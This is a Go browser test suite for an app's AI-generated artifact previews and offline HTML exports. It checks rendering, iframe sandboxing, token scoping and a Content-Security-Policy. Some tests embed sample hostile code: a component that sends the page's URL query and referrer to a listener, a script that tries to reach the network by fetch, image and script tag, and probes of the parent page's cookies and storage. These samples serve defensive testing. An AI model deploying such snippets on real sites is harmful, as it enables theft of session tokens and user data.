package artifacts_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/zocket/agent/internal/devtools/apitest"
	"github.com/zocket/agent/internal/devtools/browsertest"
	"github.com/zocket/agent/internal/devtools/dynamotest"
)

// The browser tests load previews through the real routes, with the real
// headers, in headless Chromium: the previewUrl an artifact's metadata
// carries, exactly as the frontend's iframe does.

func TestMain(m *testing.M) {
	code := m.Run()
	browsertest.Close()
	os.Exit(code)
}

// parentPage serves a page on its own origin that keeps a secret in
// localStorage and a cookie, frames ?src=, and prints what the frame posts.
func parentPage(t *testing.T) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><html><body><pre id="out"></pre>
<script>
localStorage.setItem("secret", "parent-secret");
document.cookie = "session=parent-cookie";
addEventListener("message", (e) => { document.getElementById("out").textContent = JSON.stringify(e.data); });
</script>
<iframe id="preview" src="%s"></iframe></body></html>`, strings.ReplaceAll(r.URL.Query().Get("src"), `"`, "&quot;"))
	}))
	t.Cleanup(srv.Close)
	return srv
}

func browserEnv(t *testing.T, parent *httptest.Server) (*apitest.Env, apitest.User) {
	t.Helper()
	requirePackages(t)
	b := dynamotest.Backends(t)[0]
	env := apitest.New(t, dynamotest.NewTable(t, b), map[string]string{"CORS_ORIGINS": "http://localhost:3000," + parent.URL})
	return env, env.Register(t)
}

func navigate(t *testing.T, ctx context.Context, u string) {
	t.Helper()
	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
		t.Fatalf("navigate: %v", err)
	}
}

const tailwindCounter = "```tsx\nimport { useState } from \"react\";\nimport { Plus, Minus } from \"lucide-react\";\n\n" +
	"export default function Counter() {\n  const [count, setCount] = useState(0);\n  return (\n" +
	"    <div className=\"flex items-center gap-4 p-8\">\n" +
	"      <button id=\"dec\" onClick={() => setCount(count - 1)}><Minus /></button>\n" +
	"      <span id=\"count\" className=\"text-6xl font-bold\">{count}</span>\n" +
	"      <button id=\"inc\" className=\"rounded bg-blue-500 px-4 py-2 text-white\" onClick={() => setCount(count + 1)}><Plus /> Add</button>\n" +
	"    </div>\n  );\n}\n```"

func TestBrowserPreviews(t *testing.T) {
	parent := parentPage(t)
	env, u := browserEnv(t, parent)
	ctx := browsertest.NewTab(t)

	t.Run("react counter with lucide and tailwind", func(t *testing.T) {
		a := chat(t, env, u, tailwindCounter)[0]
		navigate(t, ctx, a["previewUrl"].(string))
		browsertest.WaitFor(t, ctx, `document.querySelector("#count")?.textContent === "0"`)
		for range 3 {
			if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS("#inc"), chromedp.NodeVisible)); err != nil {
				t.Fatal(err)
			}
		}
		browsertest.WaitFor(t, ctx, `document.querySelector("#count").textContent === "3"`)
		if n := browsertest.Eval[int](t, ctx, `document.querySelectorAll("svg.lucide").length`); n != 2 {
			t.Errorf("lucide icons = %d, want 2", n)
		}
		browsertest.WaitFor(t, ctx, `getComputedStyle(document.querySelector("#inc")).backgroundColor !== "rgba(0, 0, 0, 0)"`)
		if bg := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("#inc")).backgroundColor`); bg != "oklch(0.623 0.214 259.815)" {
			t.Errorf("bg-blue-500 = %q", bg)
		}
		if fs := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("#count")).fontSize`); fs != "60px" {
			t.Errorf("text-6xl = %q", fs)
		}
	})

	t.Run("html artifact", func(t *testing.T) {
		a := chat(t, env, u, "```html\n<!doctype html>\n<html><head><title>Hello page</title><style>h1 { color: rgb(200, 10, 10); }</style></head>\n<body><h1 id=\"t\">Hello HTML</h1><script>document.getElementById('t').dataset.ran = 'yes';</script></body></html>\n```")[0]
		navigate(t, ctx, a["previewUrl"].(string))
		browsertest.WaitFor(t, ctx, `document.querySelector("#t")?.dataset.ran === "yes"`)
		if c := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("#t")).color`); c != "rgb(200, 10, 10)" {
			t.Errorf("color = %q", c)
		}
	})

	t.Run("three-file project", func(t *testing.T) {
		a := chat(t, env, u, project)[0]
		navigate(t, ctx, a["previewUrl"].(string))
		browsertest.WaitFor(t, ctx, `document.querySelector("h1.title")?.textContent === "Hi"`)
		if c := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("h1.title")).color`); c != "rgb(102, 51, 153)" {
			t.Errorf("styles.css not applied: color %q", c)
		}
	})

	t.Run("broken component shows its error", func(t *testing.T) {
		a := chat(t, env, u, "```tsx\nexport default function Broken() {\n  throw new Error(\"kaboom 42\");\n}\n```")[0]
		navigate(t, ctx, a["previewUrl"].(string))
		browsertest.WaitFor(t, ctx, `document.body.textContent.includes("kaboom 42")`)
	})

	t.Run("framed preview is isolated from its parent", func(t *testing.T) {
		a := chat(t, env, u, "```javascript\nconst r = { origin: window.origin };\n"+
			"try { r.cookie = document.cookie; } catch (e) { r.cookie = \"threw \" + e.name; }\n"+
			"try { r.parentStorage = parent.localStorage.getItem(\"secret\"); } catch (e) { r.parentStorage = \"threw \" + e.name; }\n"+
			"try { r.parentCookie = parent.document.cookie; } catch (e) { r.parentCookie = \"threw \" + e.name; }\n"+
			"fetch(\"/api/auth/me\").then(() => { r.api = \"reached\"; }, (e) => { r.api = \"threw \" + e.name; }).finally(() => parent.postMessage(r, \"*\"));\n```")[0]
		navigate(t, ctx, parent.URL+"/?src="+url.QueryEscape(a["previewUrl"].(string)))
		browsertest.WaitFor(t, ctx, `document.querySelector("#out").textContent !== ""`)
		got := browsertest.Eval[map[string]any](t, ctx, `JSON.parse(document.querySelector("#out").textContent)`)
		want := map[string]any{
			"origin": "null", "cookie": "threw SecurityError",
			"parentStorage": "threw SecurityError", "parentCookie": "threw SecurityError",
			"api": "threw TypeError",
		}
		for k, w := range want {
			if got[k] != w {
				t.Errorf("%s = %v, want %v", k, got[k], w)
			}
		}
	})

	t.Run("second view revalidates", func(t *testing.T) {
		a := chat(t, env, u, tailwindCounter)[0]
		for range 2 {
			navigate(t, ctx, a["previewUrl"].(string))
			browsertest.WaitFor(t, ctx, `document.querySelector("#count")?.textContent === "0"`)
		}
		if !strings.Contains(env.Logs(), `"status":304`) {
			t.Error("the second view downloaded the page again instead of revalidating it (no 304)")
		}
	})
}

// TestPreviewCannotLeakTheSession runs a component that does what injected
// code would: navigate its frame to a listener with its own URL's query and
// its referrer. The frontend frames previews with the user's token in
// ?token=; what reaches the listener must authenticate as nothing but this
// artifact's preview.
func TestPreviewCannotLeakTheSession(t *testing.T) {
	var mu sync.Mutex
	var leaked []string
	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		leaked = append(leaked, r.URL.RawQuery, r.Header.Get("Referer"))
		mu.Unlock()
		fmt.Fprint(w, "got it")
	}))
	t.Cleanup(listener.Close)
	parent := parentPage(t)
	env, u := browserEnv(t, parent)
	ctx := browsertest.NewTab(t)

	leak := "```tsx\nimport { useEffect } from \"react\";\n\nexport default function Leak() {\n  useEffect(() => {\n" +
		"    location.href = \"" + listener.URL + "/steal\" + location.search + \"&ref=\" + encodeURIComponent(document.referrer);\n" +
		"  }, []);\n  return <p>loading</p>;\n}\n```"
	a := chat(t, env, u, leak)[0]
	other := chat(t, env, u, "```tsx\nexport default function Other() { return <p>other</p>; }\n```")[0]
	id := a["id"].(string)
	framed := env.URL + "/api/artifacts/" + id + "/preview?token=" + url.QueryEscape(u.Token) // as the frontend frames it
	navigate(t, ctx, parent.URL+"/?src="+url.QueryEscape(framed))
	deadline := time.Now().Add(10 * time.Second)
	for {
		mu.Lock()
		n := len(leaked)
		mu.Unlock()
		if n > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the component never reached the listener (the test would prove nothing)")
		}
		time.Sleep(50 * time.Millisecond)
	}

	mu.Lock()
	defer mu.Unlock()
	all := strings.Join(leaked, " ")
	if strings.Contains(all, u.Token) || strings.Contains(all, url.QueryEscape(u.Token)) {
		t.Fatalf("the user's token reached the listener: %s", all)
	}
	tokens := regexp.MustCompile(`[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+`).FindAllString(all, -1)
	if len(tokens) == 0 {
		t.Fatalf("no token reached the listener (%q): the preview URL should carry its preview token", all)
	}
	for _, tok := range tokens {
		for _, check := range []struct {
			name, url string
			want      int
		}{
			{"the user's profile", env.URL + "/api/auth/me", 401},
			{"the artifact's metadata", env.URL + "/api/artifacts/" + id, 401},
			{"the artifact's code", env.URL + "/api/artifacts/" + id + "/code", 401},
			{"another artifact's preview", env.URL + "/api/artifacts/" + other["id"].(string) + "/preview?token=" + url.QueryEscape(tok), 401},
			{"this artifact's preview", env.URL + "/api/artifacts/" + id + "/preview?token=" + url.QueryEscape(tok), 200},
		} {
			h := map[string]string{}
			if !strings.Contains(check.url, "token=") {
				h["Authorization"] = "Bearer " + tok
			}
			if r := get(t, check.url, h); r.Status != check.want {
				t.Errorf("%s with the leaked token: %d, want %d", check.name, r.Status, check.want)
			}
		}
	}
}

// saveExport exports the artifact of reply as the frontend does and saves
// the page under dir, as a user would: it returns the file's URL.
func saveExport(t *testing.T, env *apitest.Env, u apitest.User, reply, dir string) string {
	t.Helper()
	a := chat(t, env, u, reply)[0]
	var got htmlExport
	exportHTML(t, env, u.Token, a["id"].(string), "").Decode(t, &got)
	path := filepath.Join(dir, got.FileName)
	if err := os.WriteFile(path, []byte(got.HTMLContent), 0o600); err != nil {
		t.Fatal(err)
	}
	return "file://" + path
}

// TestExportedPagesWorkOffline opens exported pages from disk: each renders
// and works, and the browser asks for nothing but the file (no CDN, no
// API: vendor code, icons and Tailwind are inlined).
func TestExportedPagesWorkOffline(t *testing.T) {
	env, u := browserEnv(t, parentPage(t))
	ctx := browsertest.NewTab(t)
	var mu sync.Mutex
	var requests []string
	if err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*network.EventRequestWillBeSent); ok {
			mu.Lock()
			requests = append(requests, e.Request.URL)
			mu.Unlock()
		}
	}); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, reply string
		check       func(t *testing.T)
	}{
		{"react with lucide and tailwind", tailwindCounter, func(t *testing.T) {
			browsertest.WaitFor(t, ctx, `document.querySelector("#count")?.textContent === "0"`)
			if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS("#inc"), chromedp.NodeVisible)); err != nil {
				t.Fatal(err)
			}
			browsertest.WaitFor(t, ctx, `document.querySelector("#count").textContent === "1"`)
			browsertest.WaitFor(t, ctx, `document.querySelectorAll("svg.lucide").length === 2`)
			browsertest.WaitFor(t, ctx, `getComputedStyle(document.querySelector("#inc")).backgroundColor === "oklch(0.623 0.214 259.815)"`)
		}},
		{"html artifact", htmlPage, func(t *testing.T) {
			browsertest.WaitFor(t, ctx, `document.querySelector("#t")?.dataset.ran === "yes"`)
			if c := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("#t")).color`); c != "rgb(200, 10, 10)" {
				t.Errorf("color = %q", c)
			}
		}},
		{"three-file project", project, func(t *testing.T) {
			browsertest.WaitFor(t, ctx, `document.querySelector("h1.title")?.textContent === "Hi"`)
			if c := browsertest.Eval[string](t, ctx, `getComputedStyle(document.querySelector("h1.title")).color`); c != "rgb(102, 51, 153)" {
				t.Errorf("styles.css not applied: color %q", c)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			navigate(t, ctx, saveExport(t, env, u, tt.reply, t.TempDir()))
			tt.check(t)
		})
	}
	mu.Lock()
	defer mu.Unlock()
	if len(requests) < len(tests) {
		t.Fatalf("requests seen: %v (the listener saw too few to prove anything)", requests)
	}
	for _, r := range requests {
		if !strings.HasPrefix(r, "file://") && !strings.HasPrefix(r, "data:") && !strings.HasPrefix(r, "blob:") {
			t.Errorf("an exported page requested %s", r)
		}
	}
}

// beacon is what injected code would do to send data home from a page
// opened from disk, where no sandbox holds it: a fetch, an image and a
// script by URL. It counts the policy violations it meets and shows the
// outcome in body[data-result].
const beacon = `let violations = 0;
document.addEventListener("securitypolicyviolation", () => { violations++; document.body.dataset.violations = String(violations); });
const url = "LISTENER";
const attempt = (start) => new Promise(start);
Promise.all([
  fetch(url + "/fetch").then(() => "reached", () => "failed"),
  attempt((done) => { const i = new Image(); i.onload = () => done("reached"); i.onerror = () => done("failed"); i.src = url + "/img"; }),
  attempt((done) => { const s = document.createElement("script"); s.onload = () => done("reached"); s.onerror = () => done("failed"); s.src = url + "/script"; document.head.appendChild(s); }),
]).then((results) => { document.body.dataset.result = results.join(","); });
`

// TestExportedPageCannotReachTheNetwork opens exported pages that try to
// reach a listener, from disk: their meta policy stops every attempt, for a
// React artifact (its scripts' hashes) as for an HTML artifact (inline
// scripts as written). The same pages without the policy reach it.
func TestExportedPageCannotReachTheNetwork(t *testing.T) {
	var hits atomic.Int64
	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, "")
	}))
	t.Cleanup(listener.Close)
	env, u := browserEnv(t, parentPage(t))
	ctx := browsertest.NewTab(t)
	code := strings.ReplaceAll(beacon, "LISTENER", listener.URL)
	tests := []struct{ name, reply string }{
		{"react", "```tsx\nimport { useEffect } from \"react\";\n\nexport default function Beacon() {\n  useEffect(() => {\n" + code + "  }, []);\n  return <p id=\"beacon\">sent</p>;\n}\n```"},
		{"html", "```html\n<!doctype html>\n<html><head><title>Beacon page</title></head><body><p id=\"beacon\">sent</p><script>\n" + code + "</script></body></html>\n```"},
		// Text first: a parser begins the body before the first element.
		{"html beginning with text", "```html\nBeacon: <p id=\"beacon\">sent</p><script>\n" + code + "</script>\n```"},
	}
	policy := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy"[^>]*>`)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			page := saveExport(t, env, u, tt.reply, dir)
			hits.Store(0)
			navigate(t, ctx, page)
			browsertest.WaitFor(t, ctx, `document.body.dataset.result !== undefined && document.body.dataset.violations === "3"`)
			time.Sleep(200 * time.Millisecond) // for a request still on its way
			if n := hits.Load(); n != 0 {
				t.Errorf("the exported page reached the listener %d times", n)
			}

			// The control: without its policy the same page reaches it.
			path := strings.TrimPrefix(page, "file://")
			data, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			bare := filepath.Join(dir, "without-policy.html")
			if err := os.WriteFile(bare, policy.ReplaceAll(data, nil), 0o600); err != nil {
				t.Fatal(err)
			}
			navigate(t, ctx, "file://"+bare)
			browsertest.WaitFor(t, ctx, `document.body.dataset.result !== undefined`)
			time.Sleep(200 * time.Millisecond)
			if hits.Load() == 0 {
				t.Error("without its policy the page reached nothing either: the test proves nothing")
			}
		})
	}
}
